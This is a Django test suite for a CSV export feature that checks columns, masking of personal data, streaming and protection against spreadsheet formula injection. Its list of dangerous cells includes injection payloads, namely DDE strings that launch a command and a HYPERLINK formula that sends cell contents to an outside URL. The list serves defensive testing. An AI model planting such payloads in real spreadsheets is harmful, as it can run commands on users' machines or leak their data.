"""Lists as CSV files: columns, masking, and streaming."""

from __future__ import annotations

import asyncio
import csv
import inspect
import io
import re
import textwrap
from collections.abc import Callable, Iterator
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any, cast
from uuid import UUID

import pytest
from asgiref.sync import sync_to_async
from django.contrib import admin
from django.contrib.auth.models import User
from django.core.signals import request_finished
from django.db import close_old_connections, connection
from django.db.models import Model
from django.test import AsyncClient, Client
from django.test.utils import CaptureQueriesContext
from django.utils.timezone import override as in_zone
from hypothesis import given
from hypothesis import strategies as st

from django_hoiio.admin import export
from django_hoiio.admin.export import cell_of, guarded
from django_hoiio.ingest import ingest
from django_hoiio.masking import HIDDEN
from django_hoiio.models import LINKS, Call, DailyTotal, Fax, Notification, ReceiverFailure, Sms
from django_hoiio.signals import sms_received
from tests import ROOT
from tests.conftest import raw_notification
from tests.users import act, list_of, staff

MODELS: list[type[Model]] = [Notification, ReceiverFailure, Call, Sms, Fax, DailyTotal]
SEES = ("view_personal_data", "view_recordings", "view_raw")
SGT = timezone(timedelta(hours=8))

COMMON = ["id", "account", "txn_ref", "direction", "remote_number", "from", "to", "dest"]
ENDING = [
    "is_final",
    "date",
    "currency",
    "rate",
    "debit",
    "tag",
    "created_at",
    "updated_at",
    "redacted_at",
    "notification_uuid",
]
HEADERS: dict[type[Model], list[str]] = {
    Call: [
        *COMMON,
        *("dest1", "dest2", "session", "room", "outcome", "call_state", "call_status", "call_status_dest1"),
        *("call_status_dest2", "dial_status", "transfer_status", "duration"),
        *ENDING,
    ],
    Sms: [*COMMON, "sms_status", "status", "bulk_txn_ref", "part", "msg", "split_count", *ENDING],
    Fax: [*COMMON, "fax_status", "fax_error_code", "fax_pages", "fax_url", "duration", *ENDING],
    Notification: [
        *(
            "id",
            "received_at",
            "kind",
            "account",
            "route",
            "source",
            "verified_by",
            "txn_ref",
            "session",
            "dispatched_at",
        ),
        *("problems", "state_error", "remote_addr", "uuid"),
    ],
    ReceiverFailure: [
        *("id", "failed_at", "notification_id", "txn_ref", "signal", "receiver", "attempts", "resolved_at"),
    ],
    DailyTotal: ["id", "day", "account", "traffic", "currency", "count", "succeeded", "debit"],
}
# Fields that no export has: internal ones, and those whose numbers, texts and links cannot be masked separately.
LEFT_OUT: dict[type[Model], set[str]] = {
    **{key: {"remote_suffix", "version", "history_is_whole"} for key in (Call, Sms, Fax)},
    Notification: {
        *(
            "params",
            "pass_on",
            "block",
            "query",
            "body",
            "headers",
            "unverified_params",
            "claimed_until",
            "receivers",
            "redacted_at",
            "state_attempts",
            "version",
        ),
        *LINKS,
    },
    ReceiverFailure: {"traceback"},
    DailyTotal: set(),
}


def receive(*bodies: str) -> None:
    for body in bodies:
        ingest(raw_notification("any", body=body))


def sms(count: int) -> list[Sms]:
    """Create `count` SMS and return them, newest first."""
    moment = datetime.now(timezone.utc)
    Sms.objects.bulk_create(
        [Sms(txn_ref=f"AA-S-{number}", created_at=moment, updated_at=moment) for number in range(count)]
    )
    return list(Sms.objects.order_by("-pk"))


def text_of(response: Any) -> str:
    assert (response.status_code, response["Content-Type"]) == (200, "text/csv; charset=utf-8")
    return b"".join(response.streaming_content).decode()


def rows_of(response: Any) -> list[dict[str, str]]:
    """Parse an export."""
    return list(csv.DictReader(io.StringIO(text_of(response).removeprefix(export.BOM), newline="")))


def export_all(client: Client, model: type[Model], query: str = "") -> list[dict[str, str]]:
    """Export with the button above the list."""
    page = client.get(list_of(model) + query).content.decode()
    form = re.search(r'<li class="hoiio-tool">.*?</li>', page, re.DOTALL)
    assert form is not None
    fields = dict(re.findall(r'name="(\w+)" value="(\w*)"', form[0]))
    return rows_of(client.post(list_of(model) + query, fields))


# Cells.

DANGEROUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?"&A1,"click")',
    "+6591231111",
    "+1+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\ttext",
    "\r=1+1",
    "\rtext",
    "\n=1+1",
    "\r\n-1",
    " =1+1",
    '"=1+1"',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''",
    "hello;=1+1",
    "hello; -1",
    'hello;"=1+1',
    "hello\t@SUM(1)",
    "hello\n+1",
    "\u00a0=1",
]
HARMLESS = [
    "",
    "AA-S-471804",
    "a=b",
    "it's",
    "mail me @home",
    "1;2;3",
    "a, -b",
    "hello - bye",
    "6591231111",
    'say "hi"',
    "two\nlines",
    "café ☃",
]


def _calculates(written: str) -> bool:
    """Return whether a spreadsheet may read it, or a part of it, as a formula, after whitespace and quotes."""
    pieces = [written, *re.split("[;\t\r\n]", written)]
    return written[:1] in {*"\t\r\n"} or any(re.match(r'[\s"]*[=+\-@＝＋－＠]', piece) for piece in pieces)


def _documented() -> Callable[[str], str]:
    """Return the function in the documentation that restores the original text."""
    page = (ROOT / "docs/guides/admin.rst").read_text(encoding="utf-8")
    block = re.search(r"( +import csv\n.*?)\n+    with open", page, re.DOTALL)
    assert block is not None
    names: dict[str, Any] = {}
    exec(textwrap.dedent(block[1]), names)  # noqa: S102
    return cast("Callable[[str], str]", names["unguarded"])


unguarded = _documented()


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_is_written_after_an_apostrophe_and_can_be_read_back(text: str) -> None:
    written = guarded(text)

    assert written != text
    assert not _calculates(written)
    assert unguarded(written) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_text_that_is_no_formula_is_written_unchanged(text: str) -> None:
    assert (guarded(text), unguarded(text)) == (text, text)


@given(st.text(alphabet=st.sampled_from("=+-@'; \t\r\n\"a1＝\u00a0")) | st.text())
def test_any_text_can_be_read_back_and_starts_no_formula(text: str) -> None:
    written = guarded(text)

    assert unguarded(written) == text
    assert not _calculates(written)


def test_text_of_whitespace_takes_linear_time() -> None:
    """A megabyte of tabs: looking ahead from each of them would take hours."""
    text = "\t" * 1_000_000

    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (7, "7"),
        (-7, "-7"),
        (Decimal("-0.032000"), "-0.032000"),
        (Decimal("1E+3"), "1000"),
        (Decimal("0E-6"), "0.000000"),
        (datetime(2026, 1, 31, 4, 0, 0, 5, tzinfo=timezone.utc), "2026-01-31T12:00:00.000005+08:00"),
        (UUID(int=1), "00000000-0000-0000-0000-000000000001"),
        ({}, ""),
        ({"rate": "is not an amount"}, '{"rate": "is not an amount"}'),
        ("+6591231111", "'+6591231111"),
    ],
)
def test_value_has_its_format(value: object, written: str) -> None:
    assert cell_of(value, SGT) == written


# Columns.


@pytest.mark.parametrize("model", MODELS)
def test_columns_are_all_fields_except_those_left_out_by_name(model: type[Model]) -> None:
    model_admin: Any = admin.site.get_model_admin(model)
    fields = {field.name for field in model._meta.concrete_fields}
    export_fields = {name.removesuffix("_id") for name in model_admin.export_fields if "__" not in name}

    assert [export.HEADINGS.get(name, name) for name in model_admin.export_fields] == HEADERS[model]
    assert fields - export_fields == LEFT_OUT[model]
    assert export_fields - fields == set()


@pytest.mark.django_db
@pytest.mark.parametrize("model", MODELS)
def test_empty_list_is_exported_as_a_header(model: type[Model]) -> None:
    client = staff("export")
    response = client.post(
        list_of(model), {"action": "export_as_csv", "index": "0", "select_across": "1", "_selected_action": "0"}
    )

    assert text_of(response) == export.BOM + ",".join(HEADERS[model]) + "\r\n"


BODIES = [
    "txn_ref=AA-SI-1&from=%2B6591231111&to=%2B6500000000&msg=%3D1%2B1%0D%0A%2C%22caf%C3%A9%22&debit=0.013&currency=SGD&date=2012-10-30+12%3A20%3A50&rate=-0.5",
    "txn_ref=AA-C-1&dest1=%2B6581231111&dest2=%2B6591231111&call_status_dest1=answered&call_status_dest2=busy&tag=%40home&debit=0.072",
    "txn_ref=AA-C-2&fax_status=answered&from=%2B6591231111&to=%2B6500000000&fax_url=https%3A%2F%2Fexample.com%2Ffax-1.pdf&fax_pages=3",
    "txn_ref=AA-S-2&sms_status=bounced&dest=%2B6591231111&rate=dear",
]


@pytest.fixture
def filled(db: None) -> Iterator[None]:
    def fail(**kwargs: Any) -> None:
        raise ValueError("no customer has +6591231111")

    sms_received.connect(fail, dispatch_uid="shop.bill")
    receive(*BODIES)
    yield
    sms_received.disconnect(dispatch_uid="shop.bill")


@pytest.mark.usefixtures("filled")
def test_sms_is_exported_completely_with_all_permissions() -> None:
    row = Sms.objects.get(txn_ref="AA-SI-1")
    with in_zone(SGT):
        (export_fields,) = rows_of(act(staff("export", *SEES), "export_as_csv", [row]))

    assert export_fields == {
        "id": str(row.pk),
        "account": "default",
        "txn_ref": "AA-SI-1",
        "direction": "incoming",
        "remote_number": "'+6591231111",
        "from": "'+6591231111",
        "to": "'+6500000000",
        "dest": "",
        "sms_status": "",
        "status": "",
        "bulk_txn_ref": "",
        "part": row.part,
        "msg": '\'=1+1\r\n,"café"',
        "split_count": "",
        "is_final": "true",
        "date": "2012-10-30T12:20:50+08:00",
        "currency": "SGD",
        "rate": "-0.500000",
        "debit": "0.013000",
        "tag": "",
        "created_at": row.created_at.astimezone(SGT).isoformat(),
        "updated_at": row.updated_at.astimezone(SGT).isoformat(),
        "redacted_at": "",
        "notification_uuid": "",
    }
    assert unguarded(export_fields["msg"]) == row.msg
    assert datetime.fromisoformat(export_fields["created_at"]) == row.created_at


@pytest.mark.usefixtures("filled")
def test_each_list_is_exported() -> None:
    client = staff("export", *SEES)
    (call,), (fax,), (failure,) = (export_all(client, model) for model in (Call, Fax, ReceiverFailure))
    notifications = export_all(client, Notification)

    assert (call["dest1"], call["call_status_dest2"], call["tag"]) == ("'+6581231111", "busy", "'@home")
    assert (fax["fax_url"], fax["fax_pages"]) == ("https://example.com/fax-1.pdf", "3")
    assert (failure["txn_ref"], failure["receiver"], failure["attempts"]) == ("AA-SI-1", "shop.bill", "1")
    assert failure["notification_id"] == str(ReceiverFailure.objects.get().notification_id)
    assert [row["txn_ref"] for row in notifications] == ["AA-S-2", "AA-C-2", "AA-C-1", "AA-SI-1"]
    assert "rate" in notifications[0]["problems"]


@pytest.mark.django_db
def test_daily_totals_are_exported_as_plain_numbers() -> None:
    made = DailyTotal.objects.create(
        day=date(2026, 3, 1), account="=shop", traffic="sms_sent", currency="SGD", count=1234, succeeded=2, debit="-0.5"
    )

    assert export_all(staff("export"), DailyTotal) == [
        {
            "id": str(made.pk),
            "day": "2026-03-01",
            "account": "'=shop",
            "traffic": "sms_sent",
            "currency": "SGD",
            "count": "1234",
            "succeeded": "2",
            "debit": "-0.500000",
        }
    ]


# Permissions.


@pytest.mark.usefixtures("filled")
@pytest.mark.parametrize(
    ("sees", "hidden"),
    [
        ((), ["91231111", "81231111", "00000000", "1+1", "café", "fax-1", "customer"]),
        (("view_personal_data",), ["fax-1", "customer"]),
        (("view_recordings",), ["91231111", "81231111", "00000000", "1+1", "café", "customer"]),
        (SEES, ["customer"]),
    ],
)
def test_export_masks_the_same_values_as_the_screen(sees: tuple[str, ...], hidden: list[str]) -> None:
    client = staff("export", *sees)
    # References and moments are not phone numbers.
    exports = [export_all(client, model) for model in MODELS]
    cells = [cell for rows in exports for row in rows for name, cell in row.items() if not name.endswith("_at")]

    assert [(cell, each) for cell in cells for each in hidden if each in cell] == []
    (text,) = [row for row in export_all(client, Sms) if row["txn_ref"] == "AA-SI-1"]
    numbers = ("'+6591231111", "'+6500000000") if "view_personal_data" in sees else ("'+65••••1111", "'+65••••0000")
    assert (text["from"], text["to"]) == numbers
    assert (text["msg"] == HIDDEN) == ("view_personal_data" not in sees)
    (fax,) = export_all(client, Fax)
    assert (fax["fax_url"] == HIDDEN) == ("view_recordings" not in sees)


@pytest.mark.usefixtures("filled")
@pytest.mark.parametrize("model", MODELS)
def test_button_is_shown_only_to_users_who_may_export(model: type[Model]) -> None:
    client = staff("retry_receivers", "dispatch", "reconcile", *SEES)

    assert "hoiio-tool" not in client.get(list_of(model)).content.decode()
    assert "hoiio-tool" in staff("export").get(list_of(model)).content.decode()


@pytest.mark.usefixtures("filled")
def test_anonymous_user_is_redirected_to_the_login(client: Client) -> None:
    response = act(client, "export_as_csv", Sms.objects.all())

    assert (response.status_code, "/login/" in response["Location"]) == (302, True)


@pytest.mark.usefixtures("filled")
def test_export_is_not_cached_and_named_after_its_model() -> None:
    response = act(staff("export"), "export_as_csv", Sms.objects.all())

    assert "no-store" in response["Cache-Control"]
    assert re.fullmatch(r'attachment; filename="hoiio-sms-\d{8}-\d{6}\.csv"', response["Content-Disposition"])


# Rows.


@pytest.mark.django_db
def test_only_selected_rows_are_exported() -> None:
    rows = sms(4)

    export_fields = rows_of(act(staff("export"), "export_as_csv", rows[1:3]))

    assert [row["txn_ref"] for row in export_fields] == ["AA-S-2", "AA-S-1"]


@pytest.mark.usefixtures("filled")
@pytest.mark.parametrize(
    ("query", "references"),
    [
        ("", ["AA-S-2", "AA-SI-1"]),
        ("?q=AA-SI", ["AA-SI-1"]),
        ("?q=nobody", []),
        ("?direction__exact=outgoing", ["AA-S-2"]),
        ("?direction__exact=outgoing&q=AA-SI", []),
        # The sort order and the page do not matter.
        ("?o=1", ["AA-S-2", "AA-SI-1"]),
    ],
)
def test_select_across_and_the_button_export_all_matches(query: str, references: list[str]) -> None:
    client = staff("export")
    ticked = Sms.objects.all()[:1]

    across = rows_of(act(client, "export_as_csv", ticked, query, select_across="1"))

    assert [row["txn_ref"] for row in across] == references
    assert export_all(client, Sms, query) == across


@pytest.mark.usefixtures("filled")
def test_unknown_filter_is_refused() -> None:
    client = staff("export")
    fields = {"action": "export_as_csv", "index": "0", "select_across": "1", "_selected_action": "0"}

    assert client.post(list_of(Sms) + "?remote_number__startswith=%2B6591", fields).status_code == 400


# Streaming.


@pytest.mark.django_db
@pytest.mark.parametrize("count", [0, 1, 2, 3, 4, 5])
def test_every_row_is_written_once_at_any_chunk_boundary(count: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "CHUNK_SIZE", 2)
    rows = sms(count)

    assert [row["id"] for row in export_all(staff("export"), Sms)] == [str(row.pk) for row in rows]


@pytest.mark.django_db
def test_rows_are_read_while_the_response_is_sent(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "CHUNK_SIZE", 2)
    rows = sms(6)
    response = act(staff("export"), "export_as_csv", rows[:1], select_across="1")

    with CaptureQueriesContext(connection) as queries:
        pieces = iter(response.streaming_content)
        after = [(next(pieces).count(b"\r\n"), len(queries)) for _ in range(3)]
        # Rows that were not read yet may be deleted, and new rows are not part of this export.
        Sms.objects.filter(pk__lte=rows[4].pk).delete()
        sms(1)
        rest = list(pieces)

    assert after == [(1, 0), (2, 1), (2, 2)]
    assert rest == []


@pytest.mark.django_db
@pytest.mark.parametrize("model", MODELS)
def test_chunk_takes_one_query(model: type[Model], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "CHUNK_SIZE", 3)
    sms_received.connect(lambda **kwargs: 1 / 0, weak=False, dispatch_uid="shop.bill")
    bodies = [re.sub(r"(AA-[SCI]+-)", rf"\g<1>{number}", body) for body in BODIES[:3] for number in range(5)]
    receive(*bodies)
    sms_received.disconnect(dispatch_uid="shop.bill")
    DailyTotal.objects.bulk_create(
        DailyTotal(day=date(2026, 3, 1), account=str(number), traffic="sms_sent", count=1, succeeded=1, debit=1)
        for number in range(5)
    )
    count = model._default_manager.count()
    ticked = model._default_manager.all()[:1]
    response = act(staff("export"), "export_as_csv", ticked, select_across="1")

    with CaptureQueriesContext(connection) as queries:
        text_of(response)

    assert count >= 5
    assert len(queries) == count // 3 + 1
    # The second chunk starts at the key where the first one ended, and skips nothing.
    assert re.search(rf'"?{model._meta.db_table}"?."?id"? < \d+'.replace('"', '["`]'), queries[1]["sql"])
    assert [each["sql"] for each in queries if "OFFSET" in each["sql"]] == []
    # No large column is read.
    assert [each["sql"] for each in queries if "body" in each["sql"]] == []


@pytest.mark.django_db
def test_aborted_export_is_logged(caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch) -> None:
    caplog.set_level("INFO", logger="django_hoiio.admin.export")
    monkeypatch.setattr(export, "CHUNK_SIZE", 2)
    client = staff("export", *SEES)
    receive(*BODIES)
    rows_of(act(client, "export_as_csv", Call.objects.all()))
    Sms.objects.all().delete()
    sms(6)
    request = client.get(list_of(Sms)).wsgi_request
    broken = export.export_as_csv(admin.site.get_model_admin(Sms), request, Sms.objects.all())
    for _, _ in zip(range(3), broken.streaming_content, strict=False):
        pass
    # Close it as a server does if the client disconnects, but leave the test's database connection open.
    request_finished.disconnect(close_old_connections)
    broken.close()
    request_finished.connect(close_old_connections)

    user = User.objects.get()
    assert [record.getMessage() for record in caplog.records] == [
        f"User {user.pk} exported 1 rows of django_hoiio.Call.",
        f"User {user.pk} exported 4 rows of django_hoiio.Sms.",
    ]


@pytest.mark.django_db(transaction=True)
def test_export_is_streamed_under_asgi(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "CHUNK_SIZE", 2)
    rows = sms(3)
    client: Any = staff("export", client=AsyncClient())

    async def pieces() -> list[bytes]:
        response = await act(client, "export_as_csv", rows[:1], select_across="1")
        assert inspect.isasyncgen(response.streaming_content) or response.is_async
        found = [piece async for piece in response.streaming_content]
        # Close the connection of the thread that read the rows.
        await sync_to_async(lambda: connection.close())()
        return found

    assert [piece.count(b"\r\n") for piece in asyncio.run(pieces())] == [1, 2, 1]


@pytest.mark.django_db
def test_dates_are_in_the_time_zone_of_the_request_even_after_it_ended() -> None:
    (row,) = sms(1)
    with in_zone(SGT):
        response = act(staff("export"), "export_as_csv", [row])

    assert rows_of(response)[0]["created_at"].endswith("+08:00")


@pytest.mark.django_db
def test_file_starts_with_a_byte_order_mark_and_lines_end_with_crlf() -> None:
    text = b"".join(act(staff("export"), "export_as_csv", sms(1)).streaming_content)

    assert text.startswith(b"\xef\xbb\xbfid,account,")
    assert text.count(b"\r\n") == text.count(b"\n") == 2
